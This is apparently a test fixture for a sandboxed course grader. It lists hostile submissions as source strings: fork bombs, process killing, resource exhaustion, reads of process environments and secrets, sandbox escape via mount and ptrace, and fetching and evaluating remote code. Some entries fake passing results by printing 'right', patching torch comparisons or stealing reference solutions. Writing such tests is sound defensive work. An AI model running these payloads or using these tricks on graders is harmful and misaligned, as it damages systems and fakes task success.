"""Submissions that try to get points without an answer, or to stop the run: by name, as source.

Each answers ``attention.causal_mask`` unless it says otherwise. ``{solution}`` stands for the
folder in which the project, with its solutions, is installed.
"""

HEAD = "import torch\n"
FAKE = "    return torch.ones(queries, keys, dtype=torch.bool)\n"


def answer(body: str, before: str = "") -> str:
    """A file whose ``causal_mask`` has this body."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return f"{HEAD}{before}\n\ndef causal_mask(queries, keys):\n{lines}{FAKE}"


HOSTILE = {
    # to stop the run
    "endless loop": answer("while True: pass"),
    "endless loop on import": answer("x", "x = [0 for _ in iter(int, 1)]"),
    "sleeps": answer("import time; time.sleep(10_000)"),
    "fork bomb": answer("import os\nwhile True: os.fork()"),
    "processes": answer("import subprocess\nwhile True: subprocess.Popen(['/bin/sleep', '99'])"),
    "threads left behind": answer(
        "import threading\nfor _ in range(50): threading.Thread(target=spin, daemon=False).start()",
        "def spin():\n    while True: pass",
    ),
    "threads without end": answer(
        "import threading, time\n"
        "while True: threading.Thread(target=time.sleep, args=(999,)).start()"
    ),
    "100 GB at once": answer("torch.ones(100 << 30, dtype=torch.uint8)"),
    "memory bit by bit": answer("kept = []\nwhile True: kept.append(bytearray(1 << 24))"),
    "os._exit(0)": answer("import os; os._exit(0)"),
    "sys.exit(0)": answer("import sys; sys.exit(0)"),
    "segmentation fault": answer("import ctypes; ctypes.string_at(0)"),
    "kills everybody": answer("import os; os.kill(-1, 9); os.kill(os.getppid(), 9)"),
    "recursion": answer("return causal_mask(queries, keys)"),
    "stops itself": answer("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    "huge output": answer("while True: print('passed' * 10_000)"),
    "huge result": answer("return torch.ones(1 << 30, dtype=torch.bool)"),
    "huge view": answer("return torch.ones(1, dtype=torch.bool).expand(1 << 40)"),
    "fills the disk": answer(
        "import os\nfor i in range(10_000): open(f'{folder}/x{i}', 'wb').write(bytes(1 << 24))",
        "import tempfile\nfolder = tempfile.gettempdir()",
    ),
    "deep nesting": answer("x = []\nfor _ in range(10**5): x = [x]\nreturn x"),
    "huge number": answer("return 10 ** 10 ** 6"),
    # to be believed
    "prints passed": answer("print('attention.causal_mask: right', flush=True)"),
    "patches torch": answer(
        "pass",
        "torch.equal = torch.allclose = lambda *a, **k: True\n"
        "torch.Tensor.__eq__ = lambda *a: torch.ones(1, dtype=torch.bool)\n"
        "torch.Tensor.__ne__ = lambda *a: torch.zeros(1, dtype=torch.bool)\n"
        "causal = torch",
    ),
    "equal to everything": HEAD
    + "class Mask(torch.Tensor):\n"
    + "    def __eq__(self, other): return True\n"
    + "    def __getattr__(self, name): return lambda *a, **k: True\n"
    + "def causal_mask(queries, keys): return Mask(torch.zeros(1))\n",
    "pickle that runs code": HEAD
    + "class Evil:\n    def __reduce__(self): return (exec, ('raise SystemExit(0)',))\n"
    + "def causal_mask(queries, keys): return Evil()\n",
    "says on the wire that it is right": answer(
        "import os\n"
        "for fd in range(3, 64):\n"
        '    try: os.write(fd, b\'\\x10\\0\\0\\0\\0\\0\\0\\0{"state":"right"}\')\n'
        "    except OSError: pass"
    ),
    "garbage on the wire": answer(
        "import os\n"
        "for fd in range(3, 64):\n"
        "    try: os.write(fd, b'\\xff' * 4096)\n"
        "    except OSError: pass"
    ),
    "an answer that drips": answer(
        "import os, stat, struct, time\n"
        "for fd in range(3, 64):\n"
        "    try: found = stat.S_ISSOCK(os.fstat(fd).st_mode)\n"
        "    except OSError: continue\n"
        "    if found: os.write(fd, struct.pack('<II', 99, 60 << 20))\n"
        "    while found: os.write(fd, b' '); time.sleep(0.2)"
    ),
    "a header that grows in memory": answer(
        "import os, stat, struct\n"
        "for fd in range(3, 64):\n"
        "    try: found = stat.S_ISSOCK(os.fstat(fd).st_mode)\n"
        "    except OSError: continue\n"
        "    if found: os.write(fd, struct.pack('<II', 60 << 20, 0) + b'[' + b'{},' * (20 << 20))"
    ),
    "an error that no file can hold": answer("raise ValueError('\\ud800\\x1b[2J<script>\\0')"),
    "an error with a long name": answer("raise type('E' * 10**7, (Exception,), {})('x' * 10**7)"),
    "reads the caller's frames": answer(
        "import sys\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
        "    for value in list(frame.f_locals.values()):\n"
        "        if hasattr(value, 'answer'): return value.answer(queries, keys)\n"
        "    frame = frame.f_back"
    ),
    "imports the checks": answer(
        "from minift.course import find\nreturn find('attention.causal_mask').answer(queries, keys)"
    ),
    "reads the solutions": answer(
        "import glob\n"
        "for path in glob.glob('{solution}/**/causal_mask.py', recursive=True):\n"
        "    space = {}\n    exec(open(path).read(), space)\n"
        "    return space['solution'](queries, keys)"
    ),
    "looks for them everywhere": answer(
        "import os\n"
        "for folder, _, files in os.walk('/'):\n"
        "    if 'causal_mask.py' in files:\n"
        "        space = {}\n        exec(open(folder + '/causal_mask.py').read(), space)\n"
        "        return space['solution'](queries, keys)"
    ),
    "asks the garbage collector": answer(
        "import gc\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing).__name__ == 'Exercise': return thing.answer(queries, keys)"
    ),
    "reads other processes": answer(
        "import os\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) > 1: return open(f'/proc/{pid}/environ').read()"
    ),
    "tells the teacher's environment": answer(
        "import os\n"
        "text = str(dict(os.environ)) + open('/proc/self/environ').read()\n"
        "raise ValueError(text.replace(chr(0), ' ')[-400:] + open('/proc/1/environ').read()[-400:])"
    ),
    "looks for a secret": answer(
        "import os\n"
        "raise ValueError(f\"secret {os.environ.get('MINIFT_TEST_SECRET')}\" + str("
        "'hunter' + str(2) in open('/proc/1/environ').read()))"
    ),
    "network": answer(
        "import urllib.request\n"
        "return eval(urllib.request.urlopen('http://192.0.2.1/answer', timeout=3).read())"
    ),
    "writes the scores": answer(
        "for path in ('grades.csv', 'grades.json', '{solution}/grades.csv', '/tmp/grades.csv'):\n"
        "    try: open(path, 'w').write('hostile,99,4')\n"
        "    except OSError: pass"
    ),
    "mounts and traces": answer(
        "import ctypes\n"
        "libc = ctypes.CDLL(None)\n"
        "libc.umount2(b'/proc', 2); libc.unshare(0x10000000); libc.setuid(0)\n"
        "libc.mount(b'/', b'/tmp', None, 4096, None); libc.ptrace(16, 1, 0, 0)"
    ),
    "a table of the usual answers": HEAD
    + "# of attention.scores, whose inputs are random: right only on those of the course\n"
    + "{table}",
}

KERNELS = {
    # in kernels.vector_add: the counters of the interpreter are in the same process
    "imports in a kernel": ("import os\n", "    os._exit(0)\n"),
    "built-in in a kernel": ("", "    __import__('os')._exit(0)\n"),
    "private names": ("", "    tl.load.__globals__['x'] = 1\n"),
    "modules of the language": ("", "    tl.core.load = None\n"),
    "patches before": ("import kernels.lab\nkernels.lab.check = None\nx = kernels\n", "    x\n"),
    "hidden by a comprehension": ("", "    x = [0 for eval in (0,)]\n    eval('1')\n"),
    "hides all built-ins": ("", "    x = [0 for __builtins__ in ()]\n    __builtins__['eval']\n"),
    "hidden by a nested function": ("", "    def f(eval):\n        pass\n    eval('1')\n"),
    "decides outside": (
        "@triton.jit\ndef helper(eval, x=eval('1')):\n    pass\n",
        "    helper(1)\n",
    ),
    "takes all memory": ("", "    x = (0,) * (1 << 38)\n"),
    "runs for ever": ("", "    while True:\n        pass\n"),
}
